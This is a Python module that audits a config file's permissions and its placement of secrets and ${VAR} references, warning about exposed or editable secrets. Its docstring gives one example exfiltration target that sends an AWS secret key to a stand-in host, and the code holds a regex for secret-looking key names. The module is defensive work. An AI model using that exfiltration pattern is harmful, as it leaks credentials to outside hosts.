"""Checks of the config file beyond its values: who may read it, who may write it, where ``${VAR}`` is.

A password written into a URL (``json://bob:PASSWORD@host``, a database URL),
a secret-looking query value (``?token=...``) or a secret-looking key with a
literal value (``password = "..."``) in a file readable by group or others
gives one warning line that names the key, never the secret. A ``${VAR}``
reference is not a secret: its value lives in the environment.

A file that group or others may *write* is worse when it holds a secret or a
``${VAR}``: whoever edits it can send any environment variable to any host
(``notify = ["json://theirhost/${AWS_SECRET_ACCESS_KEY}"]``). That is warned
about as ssh does for its own files (``chmod go-w``).

``${VAR}`` is expanded in ``[[alerts]] notify`` targets only, at send time
(notifier/secrets.py). Anywhere else it would be sent or shown as it is, or
be a way to read the environment: :func:`misplaced_variables` names the keys,
and loading the config refuses them (a title or body may still say ``${crs}``:
a dollar sign before a template placeholder).

Call :func:`config_file_warnings` once the file is known to parse, and log each
line as a warning.
"""

from __future__ import annotations

import os
import re
import stat
import tomllib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from eewatch.config.values import ConfigError

_VAR_ONLY = re.compile(r"^\$\{[A-Za-z_][A-Za-z0-9_]*\}$")
_ANY_VAR = re.compile(r"\$\{([^}]*)\}")
_SECRET_NAME = re.compile(r"pass|pwd|token|secret|key|auth|sig|cred", re.I)


def config_file_warnings(path: Path, data: Mapping[str, Any] | None = None) -> list[str]:
    """Warnings about ``path`` (its TOML ``data``, when read already): writable by others while it
    holds a secret or a ``${VAR}``; readable by others while it holds a literal secret."""
    if os.name != "posix":
        return []
    try:
        mode = stat.S_IMODE(path.stat().st_mode)
        if not mode & (stat.S_IRGRP | stat.S_IROTH | stat.S_IWGRP | stat.S_IWOTH):
            return []
        data = tomllib.loads(path.read_text(encoding="utf-8")) if data is None else data
    except (OSError, UnicodeDecodeError, tomllib.TOMLDecodeError):
        return []  # loading the config reports these
    where = sorted(set(secret_places(data)))
    warnings = []
    if mode & (stat.S_IWGRP | stat.S_IWOTH) and (where or _has_variables(data)):
        holds = f"a secret ({', '.join(where[:5])})" if where else "${VAR} targets"
        warnings.append(
            f"{path}: UNPROTECTED: writable by others (mode {mode:04o}) while it holds {holds}: "
            f"whoever can edit it can send any environment variable to any host; chmod go-w {path}"
        )
    if mode & (stat.S_IRGRP | stat.S_IROTH) and where:
        warnings.append(
            f"{path}: readable by others (mode {mode:04o}) while it holds a secret ({', '.join(where[:5])}): "
            f"chmod 600 {path}, or write the secret as ${{VAR}} and set VAR in the environment"
        )
    return warnings


def misplaced_variables(data: Any, label: str = "") -> Iterator[str]:
    """The keys outside ``[[alerts]] notify`` whose values hold a ``${VAR}`` (never expanded there),
    named as the loader names them (``[[alerts]] me title``)."""
    from eewatch.config.values import TEMPLATE_FIELDS

    in_rule = label.startswith("[[alerts]]")
    if isinstance(data, dict):
        for key, item in data.items():
            array = not label and key in ("alerts", "sources", "profiles")
            inner = f"{label} {key}".strip() if label else f"[[{key}]]" if array else f"[{key}]"
            if in_rule and key == "notify":
                continue
            if in_rule and key in ("title", "body") and isinstance(item, str):
                if any(name not in TEMPLATE_FIELDS for name in _ANY_VAR.findall(item)):
                    yield inner
                continue
            yield from misplaced_variables(item, inner)
    elif isinstance(data, list):
        for index, item in enumerate(data, start=1):
            name = item.get("name") if isinstance(item, dict) else None
            if label == "[[profiles]]":  # a profile's name is a person's: its number only
                yield from misplaced_variables(item, f"{label} #{index}")
            else:
                yield from misplaced_variables(item, f"{label} {name}" if isinstance(name, str) else label)
    elif isinstance(data, str) and _ANY_VAR.search(data):
        yield label


def refuse_misplaced_variables(data: Mapping[str, Any], where: str) -> None:
    """A ``${VAR}`` outside ``[[alerts]] notify`` is a :class:`ConfigError` naming the key."""
    for label in misplaced_variables(dict(data)):
        database = label.startswith("[database]")
        hint = "; for a database password set $EEWATCH_DATABASE_URL instead" if database else ""
        raise ConfigError(
            f"{where}: {label}: ${{...}} is read from the environment only in [[alerts]] notify "
            f"targets; write the value itself here{hint}"
        )


def _has_variables(data: Any) -> bool:
    if isinstance(data, dict):
        return any(_has_variables(item) for item in data.values())
    if isinstance(data, list):
        return any(_has_variables(item) for item in data)
    return isinstance(data, str) and bool(_ANY_VAR.search(data))


def secret_places(value: Any, label: str = "") -> Iterator[str]:
    """The keys (``[[alerts]] notify``, ``[database] url``) whose values hold a literal secret."""
    if isinstance(value, dict):
        for key, item in value.items():
            inner = f"{label} {key}".strip() if label else f"[{key}]"
            if isinstance(item, str) and _SECRET_NAME.search(str(key)) and _literal(item):
                yield inner
            else:
                yield from secret_places(item, inner)
    elif isinstance(value, list):
        for item in value:
            yield from secret_places(item, label)
    elif isinstance(value, str) and _url_secret(value):
        yield label


def _literal(value: str) -> bool:
    """A non-empty value that is not a ``${VAR}`` reference."""
    return bool(value.strip()) and not _VAR_ONLY.match(value.strip())


def _url_secret(value: str) -> bool:
    """True if a URL carries a literal password or a literal secret-looking query value."""
    if "://" not in value:
        return False
    try:
        parts = urlsplit(value.strip())
        password = parts.password
        query = parse_qsl(parts.query, keep_blank_values=False)
    except ValueError:
        return False
    if password and _literal(password):
        return True
    return any(_SECRET_NAME.search(key) and _literal(item) for key, item in query)
